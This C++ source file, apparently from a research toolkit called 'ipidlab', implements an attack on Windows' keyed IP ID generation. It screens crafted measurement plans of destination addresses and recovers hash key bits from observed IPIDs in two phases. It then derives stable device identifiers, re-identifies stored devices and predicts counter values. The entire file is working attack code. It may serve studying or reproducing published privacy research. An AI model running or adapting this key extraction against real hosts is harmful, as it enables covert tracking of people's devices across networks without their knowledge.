#include "ipidlab/windows_attack.hpp"

#include <algorithm>
#include <array>
#include <bit>
#include <cmath>
#include <cstdio>
#include <stdexcept>

#include "json.hpp"

#include "ipidlab/rng.hpp"

namespace ipidlab {
namespace {

using json = nlohmann::ordered_json;

constexpr int kKeyBitsP1 = 30;   // phase 1 recovers K_33..K_62
constexpr int kMaxJ = 9;         // packed-row fast path holds 15(J-1) <= 128

// 15-bit reversal, used to map IPID-difference numbers (bit 14 = hash bit 17)
// onto equation-row order (row 0 = hash bit 17).
const std::array<std::uint16_t, 1u << 15>& rev15_table() {
  static const auto table = [] {
    std::array<std::uint16_t, 1u << 15> t{};
    for (std::uint32_t v = 0; v < t.size(); ++v) {
      std::uint32_t r = 0;
      for (int b = 0; b < 15; ++b) r |= ((v >> b) & 1u) << (14 - b);
      t[v] = static_cast<std::uint16_t>(r);
    }
    return t;
  }();
  return table;
}

// 15-bit slice of the keyed hash over a 32-bit input, for key bits K_17..K_62
// packed as kbits46 (K_17 in bit 45, K_62 in bit 0). Output bit 14 is hash
// bit 17, i.e. the slice reads as a 15-bit number the same way IPIDs do.
std::uint16_t hash_slice15(std::uint64_t kbits46, std::uint32_t input) {
  std::uint32_t acc = 0;
  std::uint32_t x = input;
  while (x != 0) {
    const int m = std::countl_zero(x);
    acc ^= static_cast<std::uint32_t>(kbits46 >> (31 - m));
    x &= ~(0x80000000u >> m);
  }
  return static_cast<std::uint16_t>(acc & 0x7fff);
}

std::uint32_t slot_offset(const Phase1Candidate& cand, int payload_index) {
  std::uint32_t slot = cand.permutation.empty()
                           ? static_cast<std::uint32_t>(payload_index)
                           : cand.permutation[payload_index];
  std::uint32_t off = slot;
  for (std::uint32_t s = 1; s <= slot && s <= cand.gaps.size(); ++s)
    off += cand.gaps[s - 1];
  return off;
}

std::uint64_t fnv1a(std::uint64_t h, const std::string& s) {
  for (unsigned char c : s) {
    h ^= c;
    h *= 0x100000001b3ull;
  }
  return h;
}

std::string hex_string(std::uint64_t value, int bits) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%d:%0*llx", bits, (bits + 3) / 4,
                static_cast<unsigned long long>(value));
  return buf;
}

std::uint64_t parse_hex_string(const std::string& text, int* bits_out) {
  int bits = 0;
  const auto colon = text.find(':');
  if (colon == std::string::npos) throw std::invalid_argument("missing bit width: " + text);
  bits = std::stoi(text.substr(0, colon));
  if (bits < 1 || bits > 64) throw std::invalid_argument("bad bit width: " + text);
  const std::string digits = text.substr(colon + 1);
  if (static_cast<int>(digits.size()) != (bits + 3) / 4)
    throw std::invalid_argument("hex digit count mismatch: " + text);
  std::uint64_t value = 0;
  for (char c : digits) {
    int d;
    if (c >= '0' && c <= '9') d = c - '0';
    else if (c >= 'a' && c <= 'f') d = c - 'a' + 10;
    else throw std::invalid_argument("bad hex digit: " + text);
    value = (value << 4) | static_cast<std::uint64_t>(d);
  }
  if (bits < 64 && (value >> bits) != 0)
    throw std::invalid_argument("value exceeds declared width: " + text);
  return bits_out ? (*bits_out = bits, value) : value;
}

void require_plan_shape(const MeasurementPlan& plan) {
  if (plan.j_count() < 2) throw std::invalid_argument("plan needs at least 2 in-class addresses");
  if (plan.j_count() > kMaxJ) throw std::invalid_argument("plan exceeds supported in-class count");
}

}  // namespace

int MeasurementPlan::q_count() const {
  if (phase1_ips.empty()) return 0;
  const std::uint32_t lead = phase1_ips[0].value >> 31;
  int q = 0;
  for (const auto& p : pairs)
    if ((p[0].value >> 31) == lead) ++q;
  return q;
}

std::uint64_t MeasurementPlan::digest() const {
  std::uint64_t h = 0xcbf29ce484222325ull;
  for (const auto& ip : phase1_ips) h = fnv1a(h, to_string(ip) + ";");
  h = fnv1a(h, "|");
  for (const auto& p : pairs) h = fnv1a(h, to_string(p[0]) + "," + to_string(p[1]) + ";");
  return h;
}

std::string MeasurementPlan::to_json() const {
  json out;
  out["phase1"] = json::array();
  for (const auto& ip : phase1_ips) out["phase1"].push_back(to_string(ip));
  out["pairs"] = json::array();
  for (const auto& p : pairs)
    out["pairs"].push_back(json::array({to_string(p[0]), to_string(p[1])}));
  return out.dump();
}

MeasurementPlan MeasurementPlan::from_json(const std::string& text) {
  const json in = json::parse(text);
  MeasurementPlan plan;
  for (const auto& s : in.at("phase1"))
    plan.phase1_ips.push_back(parse_ipv4(s.get<std::string>()));
  for (const auto& p : in.at("pairs"))
    plan.pairs.push_back({parse_ipv4(p.at(0).get<std::string>()),
                          parse_ipv4(p.at(1).get<std::string>())});
  return plan;
}

MeasurementPlan random_plan(int j, int g, int q, Rng& rng) {
  if (j < 4 || g < 2) throw std::invalid_argument("random_plan needs j >= 4, g >= 2");
  if (j > kMaxJ) throw std::invalid_argument("random_plan: j too large");
  if (q < 0 || q >= g) throw std::invalid_argument("random_plan needs 0 <= q < g");

  MeasurementPlan plan;
  for (int attempt = 0; attempt < 10000; ++attempt) {
    plan.phase1_ips.clear();
    const std::uint32_t prefix = random_public_ipv4(rng).value & 0xffff0000u;
    std::vector<std::uint16_t> suffixes;
    while (suffixes.size() < static_cast<std::size_t>(j)) {
      const auto s = static_cast<std::uint16_t>(rng.bits(16));
      if (std::find(suffixes.begin(), suffixes.end(), s) == suffixes.end())
        suffixes.push_back(s);
    }
    for (auto s : suffixes) plan.phase1_ips.push_back(Ipv4{prefix | s});
    plan.pairs.clear();
    const auto report = validate_ip_set(plan);
    if (report.n1 == 0 && report.n2 == 0 && report.parity_ok && report.kernel_rank == 0)
      break;
    if (attempt == 9999) throw std::runtime_error("random_plan: screening never passed");
  }

  const std::uint32_t lead = plan.phase1_ips[0].value >> 31;
  std::vector<std::uint32_t> used_prefixes{plan.phase1_ips[0].class_b()};
  for (int i = 0; i < g; ++i) {
    const bool agree = i < q;
    Ipv4 base{};
    do {
      base = random_public_ipv4(rng);
    } while ((base.value >> 31) != (agree ? lead : lead ^ 1u) ||
             std::find(used_prefixes.begin(), used_prefixes.end(), base.class_b()) !=
                 used_prefixes.end());
    used_prefixes.push_back(base.class_b());
    const auto a = static_cast<std::uint16_t>(rng.bits(16));
    std::uint16_t b;
    do {
      b = static_cast<std::uint16_t>(rng.bits(16));
    } while (b == a);
    plan.pairs.push_back({Ipv4{(base.value & 0xffff0000u) | a},
                          Ipv4{(base.value & 0xffff0000u) | b}});
  }
  return plan;
}

ScreeningReport validate_ip_set(const MeasurementPlan& plan) {
  require_plan_shape(plan);
  ScreeningReport rep;
  const auto& ips = plan.phase1_ips;

  for (std::size_t i = 1; i < ips.size(); ++i)
    if (ips[i].class_b() != ips[0].class_b())
      rep.failures.push_back("in-class addresses span multiple /16s");

  // Shared leading / trailing bits in the low half shrink the reachable key
  // window: any shared position contributes nothing to the equations.
  auto all_agree = [&](int bit) {
    for (std::size_t i = 1; i < ips.size(); ++i)
      if (ips[i].bit(bit) != ips[0].bit(bit)) return false;
    return true;
  };
  while (rep.n1 < 16 && all_agree(16 + rep.n1)) ++rep.n1;
  while (rep.n2 < 16 - rep.n1 && all_agree(31 - rep.n2)) ++rep.n2;
  if (rep.n1 != 0) rep.failures.push_back("shared leading in-class bits");
  if (rep.n2 != 0) rep.failures.push_back("shared trailing in-class bits");

  for (std::size_t i = 1; i < ips.size() && !rep.parity_ok; ++i)
    rep.parity_ok = (std::popcount((ips[i].value ^ ips[0].value) & 0xffffu) & 1) != 0;
  if (!rep.parity_ok) rep.failures.push_back("all in-class differences have even parity");

  rep.q_ok = plan.q_count() < plan.g_count();
  if (!rep.q_ok)
    rep.failures.push_back("no pair differs from the in-class block in the leading bit");

  std::vector<std::uint32_t> prefixes;
  for (const auto& p : plan.pairs) {
    if (p[0].class_b() != p[1].class_b())
      rep.failures.push_back("pair spans two /16s");
    if (p[0].class_b() == ips[0].class_b() ||
        std::find(prefixes.begin(), prefixes.end(), p[0].class_b()) != prefixes.end())
      rep.failures.push_back("pair /16 reused");
    prefixes.push_back(p[0].class_b());
  }

  if (ips.size() >= 2) {
    const auto pre = gaussian_pseudo_inverse(build_coefficient_matrix(ips));
    rep.rank = pre.rank;
    rep.kernel_rank = pre.kernel_rank;
    if (rep.kernel_rank != 0) rep.failures.push_back("coefficient matrix not full rank");
  }

  rep.ok = rep.failures.empty();
  return rep;
}

BitMatrix build_coefficient_matrix(const std::vector<Ipv4>& phase1_ips) {
  const int j_count = static_cast<int>(phase1_ips.size());
  if (j_count < 2) throw std::invalid_argument("need at least 2 in-class addresses");
  BitMatrix c(15 * (j_count - 1), kKeyBitsP1);
  // Difference j, hash output bit i (17..31): the XOR with address 0 only has
  // low-half bits, so output bit i collects key bits K_{i+m} for each set
  // input bit m (16..31). Key bit K_{33+col} <-> column col = (i-17)+(m-16).
  for (int j = 1; j < j_count; ++j) {
    const std::uint32_t diff = phase1_ips[j].value ^ phase1_ips[0].value;
    for (int i = 17; i <= 31; ++i)
      for (int m = 16; m <= 31; ++m)
        if ((diff >> (31 - m)) & 1u)
          c.set(15 * (j - 1) + (i - 17), (i - 17) + (m - 16), true);
  }
  return c;
}

PlanMatrices preprocess_plan(const MeasurementPlan& plan) {
  require_plan_shape(plan);
  PlanMatrices pre;
  pre.c = build_coefficient_matrix(plan.phase1_ips);
  auto gpi = gaussian_pseudo_inverse(pre.c);
  pre.z = std::move(gpi.z);
  pre.rank = gpi.rank;
  pre.kernel_rank = gpi.kernel_rank;
  return pre;
}

namespace {

// Send orders and gap layouts enumerated in deterministic (lexicographic)
// order. A "config" fixes, for every payload index, how many counter ticks
// happened before its packet.
struct ConfigSet {
  std::vector<std::vector<std::uint8_t>> permutations;  // empty inner = identity
  std::vector<std::vector<std::uint8_t>> gap_layouts;   // empty inner = none
};

ConfigSet enumerate_configs(int j_count, const Phase1Options& opt) {
  ConfigSet cs;
  if (opt.permutations) {
    std::vector<std::uint8_t> perm(j_count);
    for (int i = 0; i < j_count; ++i) perm[i] = static_cast<std::uint8_t>(i);
    do {
      cs.permutations.push_back(perm);
    } while (std::next_permutation(perm.begin(), perm.end()));
  } else {
    cs.permutations.emplace_back();
  }
  if (opt.max_gap > 0) {
    // Weak compositions of every total in [0, max_gap] into j_count-1 slots.
    std::vector<std::uint8_t> gaps(j_count - 1, 0);
    const auto total = [&] {
      int t = 0;
      for (auto g : gaps) t += g;
      return t;
    };
    while (true) {
      cs.gap_layouts.push_back(gaps);
      int k = static_cast<int>(gaps.size()) - 1;
      while (k >= 0) {
        ++gaps[k];
        if (total() <= opt.max_gap) break;
        gaps[k] = 0;
        --k;
      }
      if (k < 0) break;
    }
  } else {
    cs.gap_layouts.emplace_back();
  }
  return cs;
}

}  // namespace

std::vector<Phase1Candidate> phase1_extract(const std::vector<std::uint16_t>& ipids,
                                            const MeasurementPlan& plan,
                                            const PlanMatrices& pre,
                                            const Phase1Options& opt,
                                            Phase1Stats* stats) {
  const int j_count = plan.j_count();
  if (static_cast<int>(ipids.size()) != j_count)
    throw std::invalid_argument("ipid count does not match plan");
  if (pre.kernel_rank != 0 || pre.rank != kKeyBitsP1)
    throw std::invalid_argument("plan failed screening: coefficient matrix not full rank");

  const int rows = 15 * (j_count - 1);
  const int words = (rows + 63) / 64;
  if (words > 2) throw std::invalid_argument("plan exceeds supported in-class count");

  // Flatten z rows, consistency rows first so a mismatch exits early: a wrong
  // counter base zeroes out on average after about two row checks.
  const int zero_rows = rows - kKeyBitsP1;
  std::vector<std::uint64_t> zrows(static_cast<std::size_t>(rows) * 2, 0);
  for (int r = 0; r < rows; ++r) {
    const int slot = r < kKeyBitsP1 ? zero_rows + r : r - kKeyBitsP1;
    const std::uint64_t* src = pre.z.row(r);
    zrows[2 * slot] = src[0];
    zrows[2 * slot + 1] = words > 1 ? src[1] : 0;
  }

  const auto& rev = rev15_table();
  const ConfigSet cs = enumerate_configs(j_count, opt);
  std::vector<Phase1Candidate> out;
  Phase1Stats local;

  std::vector<std::uint32_t> off(j_count);
  Phase1Candidate shape;
  for (const auto& perm : cs.permutations) {
    for (const auto& gaps : cs.gap_layouts) {
      shape.permutation = perm;
      shape.gaps = gaps;
      for (int p = 0; p < j_count; ++p) off[p] = slot_offset(shape, p);
      ++local.configs;

      for (std::uint32_t b0 = 0; b0 < (1u << 14); ++b0) {
        ++local.candidates_checked;
        const auto v0 = static_cast<std::uint16_t>((ipids[0] - b0 - off[0]) & 0x7fff);
        std::uint64_t d0 = 0, d1 = 0;
        for (int j = 1; j < j_count; ++j) {
          const auto dj = static_cast<std::uint16_t>(
              (((ipids[j] - b0 - off[j]) & 0x7fff) ^ v0));
          const std::uint64_t r = rev[dj];
          const int base = 15 * (j - 1);
          if (base < 64) {
            d0 |= r << base;
            if (base > 49) d1 |= r >> (64 - base);
          } else {
            d1 |= r << (base - 64);
          }
        }

        bool consistent = true;
        for (int r = 0; r < zero_rows; ++r) {
          const std::uint64_t acc = (zrows[2 * r] & d0) ^ (zrows[2 * r + 1] & d1);
          if (std::popcount(acc) & 1) {
            consistent = false;
            break;
          }
        }
        if (!consistent) continue;

        std::uint32_t key = 0;
        for (int r = 0; r < kKeyBitsP1; ++r) {
          const std::uint64_t acc =
              (zrows[2 * (zero_rows + r)] & d0) ^ (zrows[2 * (zero_rows + r) + 1] & d1);
          // z row r solves column r, i.e. key bit K_{33+r}; K_62 goes to bit 0.
          key |= static_cast<std::uint32_t>(std::popcount(acc) & 1)
                 << (kKeyBitsP1 - 1 - r);
        }
        Phase1Candidate cand = shape;
        cand.key33_62 = key;
        cand.beta0 = static_cast<std::uint16_t>(b0);
        out.push_back(std::move(cand));
      }
    }
  }
  if (stats) *stats = local;
  return out;
}

std::vector<KeyExtraction> phase2_extract(
    const Phase1Candidate& candidate,
    const std::vector<std::uint16_t>& phase1_ipids,
    const std::vector<std::array<std::uint16_t, 2>>& pair_ipids,
    const MeasurementPlan& plan, const Phase2Options& opt) {
  const int g_count = plan.g_count();
  if (g_count < 1) throw std::invalid_argument("phase 2 needs at least one pair");
  if (static_cast<int>(pair_ipids.size()) != g_count)
    throw std::invalid_argument("pair ipid count does not match plan");
  if (phase1_ipids.empty()) throw std::invalid_argument("missing in-class ipids");

  // Everything below compares 15-bit quantities offset by the shared unknown
  // Num(K1..) through v_common, so per-pair hash differences telescope it out.
  const std::uint32_t off0 = slot_offset(candidate, 0);
  const auto v_common =
      static_cast<std::uint16_t>((phase1_ipids[0] - candidate.beta0 - off0) & 0x7fff);
  const std::uint32_t ip0 = plan.phase1_ips[0].value;

  std::vector<std::array<std::uint32_t, 2>> x(g_count);
  std::vector<std::uint16_t> delta(g_count);
  for (int g = 0; g < g_count; ++g) {
    x[g] = {ip0 ^ plan.pairs[g][0].value, ip0 ^ plan.pairs[g][1].value};
    delta[g] = static_cast<std::uint16_t>((pair_ipids[g][1] - pair_ipids[g][0]) & 0x7fff);
  }

  const std::uint64_t base_key = candidate.key33_62;  // kbits46 bits 0..29

  auto pair_matches = [&](std::uint16_t s0, std::uint16_t s1, int g) {
    const int span = 1 + opt.pair_max_gap;
    for (int d = 1; d <= span; ++d) {
      if (((static_cast<std::uint32_t>(d + s1 - s0)) & 0x7fff) == delta[g]) return true;
      if (opt.both_pair_orders &&
          ((static_cast<std::uint32_t>(s1 - s0 - d)) & 0x7fff) == delta[g])
        return true;
    }
    return false;
  };

  // Subset-sum tables over the 15 unknown bits for pair 0 only; survivors
  // (a couple per candidate) are checked against the other pairs directly.
  std::array<std::vector<std::uint16_t>, 2> table;
  for (int side = 0; side < 2; ++side) {
    auto& t = table[side];
    t.resize(1u << 15);
    t[0] = hash_slice15(base_key, x[0][side]);
    std::array<std::uint16_t, 15> pat;
    for (int b = 0; b < 15; ++b)
      pat[b] = hash_slice15(1ull << (30 + b), x[0][side]);
    for (std::uint32_t k = 1; k < (1u << 15); ++k)
      t[k] = t[k & (k - 1)] ^ pat[std::countr_zero(k)];
  }

  std::vector<KeyExtraction> out;
  for (std::uint32_t k15 = 0; k15 < (1u << 15); ++k15) {
    const auto s0 = static_cast<std::uint16_t>(table[0][k15] ^ v_common);
    const auto s1 = static_cast<std::uint16_t>(table[1][k15] ^ v_common);
    if (!pair_matches(s0, s1, 0)) continue;

    const std::uint64_t kbits46 = (static_cast<std::uint64_t>(k15) << 30) | base_key;
    bool all = true;
    for (int g = 1; g < g_count && all; ++g) {
      const auto t0 = static_cast<std::uint16_t>(hash_slice15(kbits46, x[g][0]) ^ v_common);
      const auto t1 = static_cast<std::uint16_t>(hash_slice15(kbits46, x[g][1]) ^ v_common);
      all = pair_matches(t0, t1, g);
    }
    if (!all) continue;

    KeyExtraction e;
    e.key18_62 = kbits46;  // bit 45 (K_17) is zero by convention
    e.offset_secret =
        static_cast<std::uint16_t>(v_common ^ hash_slice15(kbits46, ip0));
    e.beta0 = candidate.beta0;
    e.plan_digest = plan.digest();
    out.push_back(e);
  }
  return out;
}

WindowsAttackOutcome extract_windows_key(
    const std::vector<std::uint16_t>& phase1_ipids,
    const std::vector<std::array<std::uint16_t, 2>>& pair_ipids,
    const MeasurementPlan& plan, const PlanMatrices& pre,
    const Phase1Options& p1, const Phase2Options& p2) {
  WindowsAttackOutcome out;

  // A global packet counter (no keyed hash at all) makes every observed
  // difference exactly its send distance; the search below would then return
  // the all-zero key once per counter base. Catch it up front.
  bool counter = !phase1_ipids.empty();
  for (std::size_t j = 1; j < phase1_ipids.size() && counter; ++j)
    counter = ((phase1_ipids[j] - phase1_ipids[0]) & 0x7fff) ==
              static_cast<int>(j);
  for (const auto& p : pair_ipids)
    counter = counter && ((p[1] - p[0]) & 0x7fff) == 1;
  if (counter) {
    out.counter_like = true;
    return out;
  }

  auto candidates = phase1_extract(phase1_ipids, plan, pre, p1, &out.stats);
  for (const auto& cand : candidates) {
    auto keys = phase2_extract(cand, phase1_ipids, pair_ipids, plan, p2);
    out.keys.insert(out.keys.end(), keys.begin(), keys.end());
  }
  std::sort(out.keys.begin(), out.keys.end(), [](const auto& a, const auto& b) {
    return a.beta0 != b.beta0 ? a.beta0 < b.beta0 : a.key18_62 < b.key18_62;
  });
  out.keys.erase(std::unique(out.keys.begin(), out.keys.end(),
                             [](const auto& a, const auto& b) {
                               return a.beta0 == b.beta0 && a.key18_62 == b.key18_62 &&
                                      a.offset_secret == b.offset_secret;
                             }),
                 out.keys.end());
  return out;
}

int common_tail_bits(const std::vector<KeyExtraction>& keys) {
  if (keys.empty()) return 0;
  std::uint64_t diff = 0;
  for (std::size_t i = 1; i < keys.size(); ++i)
    diff |= keys[i].key18_62 ^ keys[0].key18_62;
  if (diff == 0) return 45;
  return std::min(45, std::countr_zero(diff));
}

DeviceIdResult derive_device_id(const std::vector<KeyExtraction>& keys,
                                int tail_width) {
  if (tail_width < 1 || tail_width > 45)
    throw std::invalid_argument("tail width must be in [1, 45]");
  DeviceIdResult res;
  res.tail_width = tail_width;
  if (keys.empty()) return res;
  const std::uint64_t mask = tail_width == 64 ? ~0ull : (1ull << tail_width) - 1;
  for (const auto& k : keys) res.ids.push_back(k.key18_62 & mask);
  std::sort(res.ids.begin(), res.ids.end());
  res.ids.erase(std::unique(res.ids.begin(), res.ids.end()), res.ids.end());
  res.status = res.ids.size() == 1 ? DeviceIdResult::Status::kUnique
                                   : DeviceIdResult::Status::kMulti;
  return res;
}

std::vector<std::size_t> fast_track_matches(
    const std::vector<KeyExtraction>& stored,
    const std::vector<std::uint16_t>& phase1_ipids,
    const std::vector<std::array<std::uint16_t, 2>>& pair_ipids,
    const MeasurementPlan& plan) {
  if (phase1_ipids.empty()) throw std::invalid_argument("missing in-class ipids");
  if (pair_ipids.size() != static_cast<std::size_t>(plan.g_count()))
    throw std::invalid_argument("pair ipid count does not match plan");
  const int g_count = plan.g_count();
  const std::uint32_t ip0 = plan.phase1_ips[0].value;
  const std::uint32_t ipid0 = phase1_ipids[0];

  std::vector<std::size_t> matches;
  std::vector<std::uint32_t> prefixes, next;
  for (std::size_t idx = 0; idx < stored.size(); ++idx) {
    const std::uint64_t kbits46 = stored[idx].key18_62;
    std::vector<std::array<std::uint16_t, 2>> t15(g_count);
    std::vector<std::uint16_t> delta(g_count);
    for (int g = 0; g < g_count; ++g) {
      t15[g] = {hash_slice15(kbits46, ip0 ^ plan.pairs[g][0].value),
                hash_slice15(kbits46, ip0 ^ plan.pairs[g][1].value)};
      delta[g] = static_cast<std::uint16_t>((pair_ipids[g][1] - pair_ipids[g][0]) & 0x7fff);
    }

    // Guess the counter base bottom-up; the pair equation taken mod 2^n only
    // involves the low n base bits, so wrong prefixes die within a few levels.
    prefixes.assign(1, 0);
    for (int n = 1; n <= 14 && !prefixes.empty(); ++n) {
      const std::uint32_t mask = (1u << n) - 1;
      next.clear();
      for (std::uint32_t p : prefixes) {
        for (std::uint32_t bit = 0; bit < 2; ++bit) {
          const std::uint32_t q = p | (bit << (n - 1));
          const std::uint32_t vlow = (ipid0 - q) & mask;
          bool ok = true;
          for (int g = 0; g < g_count && ok; ++g) {
            const std::uint32_t s0 = (t15[g][0] ^ vlow) & mask;
            const std::uint32_t s1 = (t15[g][1] ^ vlow) & mask;
            ok = ((delta[g] - 1 - s1 + s0) & mask) == 0;
          }
          if (ok) next.push_back(q);
        }
      }
      std::swap(prefixes, next);
    }
    if (!prefixes.empty()) matches.push_back(idx);
  }
  return matches;
}

std::uint16_t predict_counter(const KeyExtraction& extraction, Ipv4 dst,
                              std::uint16_t ipid) {
  const std::uint16_t t = hash_slice15(extraction.key18_62, dst.value);
  const std::uint32_t off14 = (extraction.offset_secret ^ t) & 0x3fff;
  return static_cast<std::uint16_t>((ipid - off14 + 1) & 0x3fff);
}

WindowsParameters choose_parameters(int address_budget, double time_budget_seconds,
                                    double alpha) {
  if (address_budget < 8) throw std::invalid_argument("need at least 8 addresses");
  if (alpha <= 0) throw std::invalid_argument("alpha must be positive");
  WindowsParameters p;
  // Phase-1 work grows like alpha * J!; push J while it fits the budget.
  p.j = 4;
  double fact = 24.0;
  while (p.j < 12 && alpha * fact * (p.j + 1) <= time_budget_seconds) {
    ++p.j;
    fact *= p.j;
  }
  p.j = std::min(p.j, address_budget - 4);
  p.g = (address_budget - p.j) / 2;
  // Balance the two false-positive terms 2^-(j-1+q) and 2^-(g-q); ties go down.
  p.q = std::clamp((p.g - (p.j - 1)) / 2, 0, p.g - 1);
  p.fp_bound = std::exp2(-(p.j - 1 + p.q)) + std::exp2(-(p.g - p.q));
  return p;
}

bool verify_key_tail40(std::uint64_t key23_62, std::uint16_t beta0, Ipv4 ip0,
                       std::uint16_t ipid0, const std::array<Ipv4, 2>& probe_ips,
                       const std::array<std::uint16_t, 2>& probe_ipids) {
  if (key23_62 >> 40) throw std::invalid_argument("key tail exceeds 40 bits");
  // 9-bit hash slice K_a..K_{a+8} for output bits 23..31: with only 40 key
  // bits the usable windows start at K_23, so everything runs mod 2^9.
  auto slice9 = [&](std::uint32_t input) {
    std::uint32_t acc = 0;
    std::uint32_t x = input;
    while (x != 0) {
      const int m = std::countl_zero(x);
      acc ^= static_cast<std::uint32_t>(key23_62 >> (31 - m));
      x &= ~(0x80000000u >> m);
    }
    return static_cast<std::uint16_t>(acc & 0x1ff);
  };
  const auto vc = static_cast<std::uint16_t>((ipid0 - beta0) & 0x1ff);
  const auto s0 = static_cast<std::uint16_t>(slice9(ip0.value ^ probe_ips[0].value) ^ vc);
  const auto s1 = static_cast<std::uint16_t>(slice9(ip0.value ^ probe_ips[1].value) ^ vc);
  const std::uint32_t observed = probe_ipids[1] & 0x1ff;
  const std::uint32_t plus = (static_cast<std::uint32_t>(probe_ipids[0] + 1 + s1 - s0)) & 0x1ff;
  const std::uint32_t minus = (static_cast<std::uint32_t>(probe_ipids[0] - 1 + s1 - s0)) & 0x1ff;
  return observed == plus || observed == minus;
}

std::vector<std::uint16_t> scheme_fingerprint(
    const std::vector<std::uint16_t>& phase1_ipids) {
  std::vector<std::uint16_t> fp;
  for (std::size_t j = 1; j < phase1_ipids.size(); ++j)
    fp.push_back(static_cast<std::uint16_t>((phase1_ipids[j] - phase1_ipids[0]) & 0x7fff));
  return fp;
}

std::string extraction_to_json(const KeyExtraction& extraction, int tail_width) {
  if (tail_width < 1 || tail_width > 45)
    throw std::invalid_argument("tail width must be in [1, 45]");
  const std::uint64_t mask = (1ull << tail_width) - 1;
  json out;
  out["key_tail_hex"] = hex_string(extraction.key18_62 & mask, tail_width);
  out["tail_width"] = tail_width;
  out["beta0"] = extraction.beta0;
  out["offset_secret"] = extraction.offset_secret;
  char digest[32];
  std::snprintf(digest, sizeof digest, "%016llx",
                static_cast<unsigned long long>(extraction.plan_digest));
  out["plan_digest"] = digest;
  return out.dump();
}

KeyExtraction extraction_from_json(const std::string& text, int* tail_width) {
  const json in = json::parse(text);
  KeyExtraction e;
  int bits = 0;
  e.key18_62 = parse_hex_string(in.at("key_tail_hex").get<std::string>(), &bits);
  if (bits != in.at("tail_width").get<int>())
    throw std::invalid_argument("tail_width disagrees with key_tail_hex");
  e.beta0 = in.at("beta0").get<std::uint16_t>();
  e.offset_secret = in.at("offset_secret").get<std::uint16_t>();
  e.plan_digest = std::stoull(in.at("plan_digest").get<std::string>(), nullptr, 16);
  if (tail_width) *tail_width = bits;
  return e;
}

}  // namespace ipidlab
